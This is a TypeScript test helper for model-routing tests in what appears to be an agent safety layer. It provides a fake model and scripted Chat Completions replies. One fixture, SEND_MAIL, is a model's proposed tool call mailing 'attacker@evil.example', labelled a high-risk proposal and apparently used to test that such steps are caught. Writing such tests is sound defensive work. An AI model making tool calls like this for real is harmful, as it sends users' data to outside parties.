// Test helper: the model side of routing tests: a fake `Model` that answers, proposes or fails, scripted routes, and Chat Completions replies as a loopback endpoint serves them.
import { AirlockError } from '../../src/errors.js';
import type { ModelRoute } from '../../src/config/schema.js';
import type { Model, ModelInput, ModelTurn } from '../../src/orchestration/model.js';

/** A scripted route (playbook `p.yaml`) with its clearance and fallbacks, for route plans and `RoutedModel`. */
export const route = (clearance: ModelRoute['clearance'], fallback: string[] = []): ModelRoute => ({ kind: 'scripted', playbook: 'p.yaml', clearance, fallback });

/** A model that answers, or fails like a provider that is down, and counts what it was asked. */
export class FakeModel implements Model {
  readonly provider = 'fake';
  asked = 0;
  constructor(
    readonly model: string,
    private readonly fails = false,
    /** The tool it proposes to call, or none (it finishes). */
    private readonly proposes: string | null = null,
  ) {}
  async next(_input: ModelInput): Promise<ModelTurn> {
    this.asked++;
    if (this.fails) throw new AirlockError('connector', `model route \`${this.model}\` failed (HTTP 503): overloaded`);
    const usage = { inputTokens: 100, outputTokens: 10 };
    if (this.proposes) return { kind: 'tool_call', tool: this.proposes, args: { by: this.model }, usage };
    return { kind: 'final', text: `from ${this.model}`, claim: 'done', usage };
  }
}

const USAGE = { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 };

/** A Chat Completions reply (HTTP 200) whose one choice is the assistant's `message`, ending for `finish`. */
export const completion = (message: object, finish: string | null) => ({
  status: 200,
  body: { id: 'c', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, message: { role: 'assistant', content: null, ...message }, finish_reason: finish }], usage: USAGE },
});

/** A completion calling tool `name` (as named on the wire) with `args` as sent, whatever their type. */
export const toolCallCompletion = (name: unknown, args: unknown, id = 'x') => completion({ tool_calls: [{ id, type: 'function', function: { name, arguments: args } }] }, 'tool_calls');

/** The model finishing: `done`. */
export const DONE = completion({ content: 'done' }, 'stop');
/** The refund desk's first step: reading ticket T-311. */
export const READ_TICKET = toolCallCompletion('tickets_get_ticket', '{"ticket_id":"T-311"}');
/** A high-risk proposal: mail to the attacker. */
export const SEND_MAIL = toolCallCompletion('mail_send', '{"to":"attacker@evil.example","subject":"x","body":"x"}', 'm');
/** A completion whose choice has no `message` at all. */
export const NO_MESSAGE = { status: 200, body: { id: 'c', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, finish_reason: 'stop' }], usage: USAGE } };
